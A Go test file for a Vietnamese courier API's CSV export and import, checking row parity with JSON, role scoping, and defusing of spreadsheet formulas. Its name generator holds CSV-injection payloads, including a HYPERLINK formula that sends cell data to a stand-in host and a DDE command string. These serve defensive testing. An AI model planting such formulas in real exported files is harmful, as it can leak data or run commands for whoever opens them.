package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"courierd/domain"
)

// formulaStarts are the characters OWASP names for CSV injection: a cell starting with one
// is a formula to a spreadsheet.
const formulaStarts = "=+-@\t\r"

// defused is how an export must write text s.
func defused(s string) string {
	if s != "" && strings.IndexByte(formulaStarts, s[0]) >= 0 {
		return "'" + s
	}
	return s
}

// hostileName is a generated applicant's name: plain Vietnamese, or a formula of the kinds
// OWASP lists behind each character that starts one, with separators and quotes inside.
func hostileName(rng *rand.Rand) string {
	payloads := []string{`HYPERLINK("http://evil.example/?x="&A1,"Xem")`, `cmd|' /C calc'!A0`, `1+1`, `SUM(1;2)`, `"quoted", name`,
		`Nguyễn Văn An; Phường 7`}
	switch k := rng.IntN(len(formulaStarts) + 2); {
	case k < len(formulaStarts):
		return string(formulaStarts[k]) + payloads[rng.IntN(len(payloads))]
	case k == len(formulaStarts):
		return "Lê Thị " + payloads[rng.IntN(len(payloads))]
	default:
		return "Trần Thị Mai"
	}
}

// withName is a dossier body with the applicant's name replaced.
func withName(body, name string) string {
	quoted, _ := json.Marshal(name)
	return strings.Replace(body, `"name":"Trần Thị Mai"`, `"name":`+string(quoted), 1)
}

// csvExport reads path as CSV: 200, the headers of a download, the BOM, and a table
// encoding/csv reads back whole (header row first).
func csvExport(t *testing.T, c client, path string) [][]string {
	t.Helper()
	r := c.with("Accept", "text/csv").do(t, http.MethodGet, path, "")
	if r.status != http.StatusOK {
		t.Fatalf("GET %s as CSV: %d %.300s", path, r.status, r.raw)
	}
	if ct := r.header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("GET %s as CSV: Content-Type %q", path, ct)
	}
	if cd := r.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="`) || !strings.HasSuffix(cd, `.csv"`) {
		t.Fatalf("GET %s as CSV: Content-Disposition %q", path, cd)
	}
	if !strings.Contains(r.header.Get("Vary"), "Accept") {
		t.Fatalf("GET %s as CSV: Vary %q does not name Accept", path, r.header.Get("Vary"))
	}
	body, bom := strings.CutPrefix(r.raw, "\uFEFF")
	if !bom {
		t.Fatalf("GET %s as CSV: no BOM: %.40q", path, r.raw)
	}
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(records) == 0 {
		t.Fatalf("GET %s as CSV: %v %.300q", path, err, body)
	}
	return records
}

// jsonRows reads every item of path's JSON answer, following the cursors of a paged list,
// each flattened as the export flattens it.
func jsonRows(t *testing.T, c client, path string, paged bool) []map[string]string {
	t.Helper()
	var out []map[string]string
	for cursor := ""; ; {
		p := path
		if paged {
			p += map[bool]string{true: "&", false: "?"}[strings.Contains(path, "?")] + "limit=" + strconv.Itoa(domain.MaxPageLimit)
			if cursor != "" {
				p += "&cursor=" + url.QueryEscape(cursor)
			}
		}
		r := c.do(t, http.MethodGet, p, "")
		if r.status != http.StatusOK {
			t.Fatalf("GET %s: %d %.300s", p, r.status, r.raw)
		}
		for _, item := range r.body["items"].([]any) {
			row := map[string]string{}
			flattenJSON(row, "", item.(map[string]any))
			out = append(out, row)
		}
		if cursor, _ = r.body["next_cursor"].(string); cursor == "" {
			return out
		}
	}
}

func flattenJSON(out map[string]string, prefix string, obj map[string]any) {
	for k, v := range obj {
		switch x := v.(type) {
		case map[string]any:
			flattenJSON(out, prefix+k+"_", x)
		case []any:
			raw, _ := json.Marshal(x)
			out[prefix+k] = string(raw)
		case string:
			out[prefix+k] = defused(x)
		case float64:
			out[prefix+k] = strconv.FormatFloat(x, 'f', -1, 64)
		case bool:
			out[prefix+k] = strconv.FormatBool(x)
		case nil:
			out[prefix+k] = ""
		}
	}
}

// sameAsJSON checks path's CSV export against its JSON answer: every row once, in order,
// every field of the JSON items a column holding the same value, and no cell a formula.
// It answers the rows.
func sameAsJSON(t *testing.T, c client, path string, paged bool) []map[string]string {
	t.Helper()
	records := csvExport(t, c, path)
	header, rows := records[0], records[1:]
	want := jsonRows(t, c, path, paged)
	if len(rows) != len(want) {
		t.Fatalf("GET %s: %d CSV rows, %d JSON items", path, len(rows), len(want))
	}
	got := make([]map[string]string, len(rows))
	for i, row := range rows {
		got[i] = map[string]string{}
		for j, name := range header {
			got[i][name] = row[j]
			if cell := row[j]; cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("GET %s row %d column %s: a formula %q", path, i+1, name, cell)
				}
			}
		}
		for name, value := range want[i] {
			if _, ok := got[i][name]; !ok {
				t.Fatalf("GET %s: JSON field %s has no column in %v", path, name, header)
			}
			if got[i][name] != value {
				t.Errorf("GET %s row %d column %s: %q, JSON says %q", path, i+1, name, got[i][name], value)
			}
		}
		for name, value := range got[i] {
			if _, ok := want[i][name]; !ok && value != "" {
				t.Errorf("GET %s row %d column %s: %q where JSON has nothing", path, i+1, name, value)
			}
		}
	}
	return got
}

// idsOf are the rows' ids, each required once.
func idsOf(t *testing.T, rows []map[string]string, column string) []string {
	t.Helper()
	var ids []string
	for _, r := range rows {
		ids = append(ids, r[column])
	}
	slices.Sort(ids)
	if len(slices.Compact(slices.Clone(ids))) != len(ids) {
		t.Fatalf("a row twice among %d", len(ids))
	}
	return ids
}

// TestCSVExportEveryRow: more dossiers than a page (generated names, a third of them
// formulas) come out of the CSV export each once, as the JSON pages show them, formulas
// defused.
func TestCSVExportEveryRow(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	seed := uint64(time.Now().UnixNano())
	rng := rand.New(rand.NewPCG(seed, 4))
	n := domain.MaxPageLimit + 1 + rng.IntN(60)
	names := map[string]bool{}
	for sent := 0; sent < n; {
		// Batches of 200: one of 500 can outlast the test client's 10 s under the race detector.
		items := make([]string, min(n-sent, 200))
		for i := range items {
			name := hostileName(rng)
			// The applicant's name is kept trimmed: a leading tab or CR is not stored.
			names[strings.TrimSpace(name)] = true
			items[i] = withName(h.dossierBody(nil), name)
		}
		for i, r := range batchResults(t, h.do(t, http.MethodPost, "/v1/dossiers/batch", batchOf(items...)), len(items)) {
			if r["status"] != "created" {
				t.Fatalf("seed %d: item %d: %v", seed, i, r)
			}
		}
		sent += len(items)
	}
	rows := sameAsJSON(t, h.as("admin"), "/v1/dossiers", true)
	if len(rows) != n || len(idsOf(t, rows, "id")) != n {
		t.Fatalf("seed %d: %d dossiers, %d rows", seed, n, len(rows))
	}
	seen := map[string]bool{}
	for _, r := range rows {
		seen[r["applicant_name"]] = true
	}
	for name := range names {
		if !seen[defused(name)] {
			t.Errorf("seed %d: no row names %q as %q", seed, name, defused(name))
		}
	}
	// The filters hold: the same query, as JSON and CSV.
	sameAsJSON(t, h.as("clerk"), "/v1/dossiers?state=requested&agency_id="+h.agency("Sở Tư pháp").ID.String(), true)
	if rows := sameAsJSON(t, h.as("admin"), "/v1/dossiers?state=delivered", true); len(rows) != 0 {
		t.Fatalf("a filter that matches nothing gives %d rows", len(rows))
	}
	t.Logf("seed %d: %d dossiers exported in %d pages", seed, n, (n+domain.MaxPageLimit-1)/domain.MaxPageLimit)
}

// TestCSVExportEveryList: each of the seven lists answers CSV with the JSON answer's rows,
// and each caller's CSV is scoped as their JSON: another office's dispatcher and another
// agency's clerk see none of these rows, and are refused the same lists the same way.
func TestCSVExportEveryList(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	h.mustCreate(t, "/v1/accounts", `{"username":"clerk.xaydung","password":"`+testPassword+`","role":"clerk","agency_id":"`+
		h.agency("Sở Xây dựng").ID.String()+`"}`, "id")
	first, second, _ := h.atPostOffice(t), h.atPostOffice(t), h.atPostOffice(t)
	office, agency := h.demo.PostOffices[0].ID.String(), h.agency("Sở Tư pháp").ID.String()
	manifest := `{"direction":"to_agency","post_office_id":"` + office + `","agency_id":"` + agency +
		`","seal_number":"=TDM-0042","dossier_ids":["` + first + `","` + second + `"]}`
	h.mustCreate(t, "/v1/manifests", manifest, "id")
	m := newMoneyAPI(h)
	bagged, _, due := m.assignedDossier(t, "")
	if r := m.push(t, "courier01", "task.collect_fee.v1", taskOfKind(h, t, bagged, "pickup"),
		fmt.Sprintf(`{"amount_vnd":%d,"method":"cash","receipt_number":"@R-1"}`, due)); r["status"] != "applied" {
		t.Fatalf("cash at the door: %v", r)
	}
	if r := m.push(t, "courier01", "task.pickup.v1", taskOfKind(h, t, bagged, "pickup"), `{}`); r["status"] != "applied" {
		t.Fatalf("pickup: %v", r)
	}
	// Another office's dossier, for its own dispatcher.
	h.as("dispatcher2").do(t, http.MethodPost, "/v1/dossiers", h.dossierBody(func(f map[string]string) {
		f["office"] = h.demo.PostOffices[1].ID.String()
	}))
	// A citizen's complaint about the first, for the office's list.
	receipt := h.as("dispatcher").do(t, http.MethodGet, "/v1/dossiers/"+first, "").body["receipt_code"].(string)
	if r := h.citizenLogin(t, receipt, "0913 456 789").do(t, http.MethodPost, "/v1/citizen/dossiers/"+first+"/complaints",
		`{"category":"damaged","text":"Hồ sơ bị ướt khi bưu tá mang đi."}`); r.status != http.StatusCreated {
		t.Fatalf("a complaint: %d %s", r.status, r.raw)
	}
	courier := h.courierOf("courier01")
	today := h.clock.now().In(domain.Vietnam)
	lists := []struct {
		path, id string
		paged    bool
		// rows: how many the owner sees at least; owner, then the callers the list is refused to.
		rows    int
		owner   string
		refused []string
	}{
		{"/v1/dossiers", "id", true, 4, "dispatcher", nil},
		{"/v1/post-offices/" + office + "/holdings", "id", true, 1, "dispatcher", []string{"dispatcher2", "clerk.xaydung"}},
		{"/v1/couriers/" + courier + "/bag", "id", true, 1, "dispatcher", []string{"dispatcher2", "clerk.xaydung"}},
		{"/v1/manifests", "id", true, 1, "dispatcher", nil},
		{"/v1/complaints", "id", true, 1, "dispatcher", []string{"clerk.xaydung"}},
		{"/v1/couriers/" + courier + "/cash?date=" + today.Format(time.DateOnly), "mutation_id", false, 1, "dispatcher", []string{"dispatcher2", "clerk.xaydung"}},
		{"/v1/agencies/" + agency + "/remittance?from=" + today.Format(time.DateOnly) + "&to=" + today.AddDate(0, 0, 1).Format(time.DateOnly),
			"dossier_id", false, 1, "clerk", []string{"clerk.xaydung", "dispatcher"}},
	}
	for _, l := range lists {
		rows := sameAsJSON(t, h.as(l.owner), l.path, l.paged)
		if len(rows) < l.rows {
			t.Errorf("%s as %s: %d rows, want at least %d", l.path, l.owner, len(rows), l.rows)
		}
		mine := idsOf(t, rows, l.id)
		if l.paged {
			// What the others see of the list, they see in CSV as in JSON, and none of these rows.
			for _, who := range []string{"dispatcher2", "clerk.xaydung"} {
				if slices.Contains(l.refused, who) {
					continue
				}
				for _, id := range idsOf(t, sameAsJSON(t, h.as(who), l.path, true), l.id) {
					if slices.Contains(mine, id) {
						t.Errorf("%s as %s: row %s of %s's", l.path, who, id, l.owner)
					}
				}
			}
		}
		for _, who := range l.refused {
			asJSON := h.as(who).do(t, http.MethodGet, l.path, "")
			asCSV := h.as(who).with("Accept", "text/csv").do(t, http.MethodGet, l.path, "")
			if asJSON.status < 400 || asCSV.status != asJSON.status || asCSV.body["code"] != asJSON.body["code"] {
				t.Errorf("%s as %s: JSON %d %v, CSV %d %.200s", l.path, who, asJSON.status, asJSON.body["code"], asCSV.status, asCSV.raw)
			}
		}
	}
	// JSON stays the default, whatever else the client accepts.
	for _, accept := range []string{"", "*/*", "application/json", "text/html", "application/json, text/csv;q=0.5"} {
		r := h.as("dispatcher").with("Accept", accept).do(t, http.MethodGet, "/v1/dossiers", "")
		if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "application/json") {
			t.Errorf("Accept %q: %d %s", accept, r.status, r.header.Get("Content-Type"))
		}
	}
}

// importColumns are the batch item's fields, flattened: the columns an import takes.
var importColumns = []string{"procedure_id", "agency_id", "post_office_id", "applicant_name", "applicant_phone", "applicant_citizen_id",
	"applicant_address", "applicant_admin_unit_code", "applicant_location_lat", "applicant_location_lon", "pickup", "return",
	"payment_method", "channel", "portal_ref"}

// csvFile writes rows under header with sep, as a spreadsheet would save them, BOM first.
func csvFile(sep rune, header []string, rows [][]string) string {
	var b strings.Builder
	b.WriteString("\uFEFF")
	w := csv.NewWriter(&b)
	w.Comma = sep
	_ = w.Write(header)
	_ = w.WriteAll(rows)
	return b.String()
}

func importCSV(h *harness, t *testing.T, who, file string) reply {
	t.Helper()
	return h.as(who).with("Content-Type", "text/csv; charset=utf-8").do(t, http.MethodPost, "/v1/dossiers/batch", file)
}

// TestCSVImportRoundTrip: a clerk's export, cut to the import's columns with the citizen
// IDs filled in again (the export masks them), imported, opens the same dossiers: the new
// ones export as the old ones did, field for field, formulas and all; with "," and ";".
func TestCSVImportRoundTrip(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	seed := uint64(time.Now().UnixNano())
	rng := rand.New(rand.NewPCG(seed, 5))
	items := make([]string, 20+rng.IntN(20))
	for i := range items {
		items[i] = withName(h.dossierBody(func(f map[string]string) { f["pickup"] = strconv.FormatBool(rng.IntN(2) == 0) }), hostileName(rng))
	}
	batchResults(t, h.as("clerk").do(t, http.MethodPost, "/v1/dossiers/batch", batchOf(items...)), len(items))
	for _, sep := range []rune{',', ';'} {
		before := h.dossierCount(t)
		records := csvExport(t, h.as("clerk"), "/v1/dossiers")
		exported := jsonRows(t, h.as("clerk"), "/v1/dossiers", true)[:len(items)]
		header := records[0]
		var rows [][]string
		for _, record := range records[1 : 1+len(items)] {
			var row []string
			for _, name := range importColumns {
				cell := ""
				if j := slices.Index(header, name); j >= 0 {
					cell = record[j]
				}
				if name == "applicant_citizen_id" {
					cell = "074190001234"
				}
				row = append(row, cell)
			}
			rows = append(rows, row)
		}
		results := batchResults(t, importCSV(h, t, "clerk", csvFile(sep, importColumns, rows)), len(rows))
		for i, r := range results {
			if r["status"] != "created" {
				t.Fatalf("seed %d sep %q: row %d: %v", seed, sep, i+2, r)
			}
			got := h.as("clerk").do(t, http.MethodGet, "/v1/dossiers/"+r["id"].(string), "")
			flat := map[string]string{}
			flattenJSON(flat, "", got.body)
			for _, name := range importColumns {
				if name == "portal_ref" {
					continue
				}
				if flat[name] != exported[i][name] {
					t.Errorf("seed %d sep %q: row %d %s: %q, exported %q", seed, sep, i+2, name, flat[name], exported[i][name])
				}
			}
		}
		if n := h.dossierCount(t); n != before+len(rows) {
			t.Fatalf("seed %d: %d rows opened %d dossiers", seed, len(rows), n-before)
		}
	}
}

// TestCSVImportMixedRows: generated bad rows among good ones; each row's result is at
// index = data row - 1, refused alone with its fields named, the good ones opened.
func TestCSVImportMixedRows(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	seed := uint64(time.Now().UnixNano())
	rng := rand.New(rand.NewPCG(seed, 6))
	good := func(ref string) map[string]string {
		return map[string]string{"procedure_id": h.procedure(judicialRecord).ID.String(), "agency_id": h.agency("Sở Tư pháp").ID.String(),
			"applicant_name": hostileName(rng), "applicant_phone": "0913 456 789", "applicant_citizen_id": "074190001234",
			"applicant_address": "số 12, đường Lê Hồng Phong, phường Phú Hòa", "applicant_admin_unit_code": "25750",
			"applicant_location_lat": "10.973242", "applicant_location_lon": "106.688935", "pickup": "TRUE", "return": "TRUE",
			"channel": "portal", "portal_ref": ref}
	}
	bad := []struct {
		edit  func(map[string]string)
		code  string
		field string
	}{
		{func(r map[string]string) { r["pickup"] = "maybe" }, "VALIDATION_FAILED", "pickup"},
		{func(r map[string]string) { r["applicant_location_lat"] = "mười" }, "VALIDATION_FAILED", "applicant.location.lat"},
		{func(r map[string]string) { r["applicant_phone"] = "12345" }, "VALIDATION_FAILED", "applicant.phone"},
		{func(r map[string]string) { r["procedure_id"] = "not-a-uuid" }, "VALIDATION_FAILED", "procedure_id"},
		{func(r map[string]string) { r["applicant_name"] = "" }, "VALIDATION_FAILED", "applicant.name"},
		{func(r map[string]string) { r["portal_ref"] = "MIXED-0" }, "DUPLICATE_IN_BATCH", "portal_ref"},
	}
	n := 20 + rng.IntN(40)
	rows := make([][]string, n)
	want := make([]int, n) // -1: good; else the bad case
	for i := range rows {
		r, w := good(fmt.Sprintf("MIXED-%d-%d", seed, i)), -1
		if i == 0 {
			r["portal_ref"] = "MIXED-0"
		} else if rng.IntN(3) == 0 {
			w = rng.IntN(len(bad))
			bad[w].edit(r)
		}
		for _, name := range importColumns {
			rows[i] = append(rows[i], defused(r[name]))
		}
		want[i] = w
	}
	before := h.dossierCount(t)
	results := batchResults(t, importCSV(h, t, "admin", csvFile(',', importColumns, rows)), n)
	created := 0
	for i, r := range results {
		if want[i] < 0 {
			if r["status"] != "created" {
				t.Errorf("seed %d: good row %d (index %d): %v", seed, i+2, i, r)
			}
			created++
			continue
		}
		b := bad[want[i]]
		if r["status"] != "refused" || r["code"] != b.code || !slices.Equal(fieldsOf(r), []string{b.field}) {
			t.Errorf("seed %d: bad row %d (index %d): %v, want %s on %s", seed, i+2, i, r, b.code, b.field)
		}
	}
	if got := h.dossierCount(t) - before; got != created {
		t.Fatalf("seed %d: %d good rows, %d dossiers opened", seed, created, got)
	}
}

// TestCSVImportMalformed: a file that is not a table of the batch's columns is refused
// whole, naming the line (and column), and opens nothing.
func TestCSVImportMalformed(t *testing.T) {
	t.Parallel()
	h := newHarness(t, nil)
	row := []string{h.procedure(judicialRecord).ID.String(), h.agency("Sở Tư pháp").ID.String(), "Trần Thị Mai", "0913456789", "074190001234",
		"số 12 Lê Hồng Phong", "25750", "10.973242", "106.688935", "true", "true"}
	header := []string{"procedure_id", "agency_id", "applicant_name", "applicant_phone", "applicant_citizen_id", "applicant_address",
		"applicant_admin_unit_code", "applicant_location_lat", "applicant_location_lon", "pickup", "return"}
	lines := func(n int) [][]string {
		out := make([][]string, n)
		for i := range out {
			out[i] = row
		}
		return out
	}
	renamed := func(from, to string) []string {
		return slices.Replace(slices.Clone(header), slices.Index(header, from), slices.Index(header, from)+1, to)
	}
	good := csvFile(',', header, lines(3))
	cases := []struct {
		name, file string
		status     int
		code       string
		where      string
	}{
		{"an unknown column", csvFile(',', append(slices.Clone(header), "notes"), [][]string{append(slices.Clone(row), "x")}),
			http.StatusBadRequest, "MALFORMED_BODY", "line 1, column 12"},
		{"a column named as in JSON", csvFile(',', renamed("applicant_name", "applicant.name"), lines(2)), http.StatusBadRequest, "MALFORMED_BODY", "line 1, column 3"},
		{"a column twice", csvFile(',', renamed("applicant_phone", "applicant_name"), lines(2)), http.StatusBadRequest, "MALFORMED_BODY", "line 1, column 4"},
		{"a ragged row", good + strings.Join(row[:5], ",") + "\n", http.StatusBadRequest, "MALFORMED_BODY", "line 5"},
		{"a stray quote", good + `"unfinished,` + strings.Join(row[1:], ",") + "\n", http.StatusBadRequest, "MALFORMED_BODY", "line 5"},
		{"not UTF-8 (a Windows code page)", good + "x,y,Tr\xe0n\n", http.StatusBadRequest, "MALFORMED_BODY", "line 5"},
		{"a NUL", "\x00" + good, http.StatusBadRequest, "MALFORMED_BODY", "line 1"},
		{"empty", "", http.StatusBadRequest, "MALFORMED_BODY", "line 1"},
		{"a header alone", csvFile(',', header, nil), http.StatusUnprocessableEntity, "VALIDATION_FAILED", "dossiers"},
		{"over the limit", csvFile(',', header, lines(1001)), http.StatusRequestEntityTooLarge, "BATCH_TOO_LARGE", ""},
	}
	before := h.dossierCount(t)
	for _, tc := range cases {
		r := importCSV(h, t, "admin", tc.file)
		if tc.where == "" {
			if r.status != tc.status || r.body["code"] != tc.code {
				t.Errorf("%s: %d %.300s", tc.name, r.status, r.raw)
			}
			continue
		}
		fields := []string{}
		errs, _ := r.body["errors"].([]any)
		for _, e := range errs {
			fields = append(fields, e.(map[string]any)["field"].(string))
		}
		if r.status != tc.status || r.body["code"] != tc.code || len(fields) != 1 || !strings.HasPrefix(fields[0], tc.where) {
			t.Errorf("%s: %d %.300s, want %d %s at %s", tc.name, r.status, r.raw, tc.status, tc.code, tc.where)
		}
	}
	if n := h.dossierCount(t); n != before {
		t.Fatalf("refused files opened %d dossiers", n-before)
	}
	// The good file is taken, as a control.
	for i, r := range batchResults(t, importCSV(h, t, "admin", good), 3) {
		if r["status"] != "created" {
			t.Fatalf("the good file's row %d: %v", i+2, r)
		}
	}
}
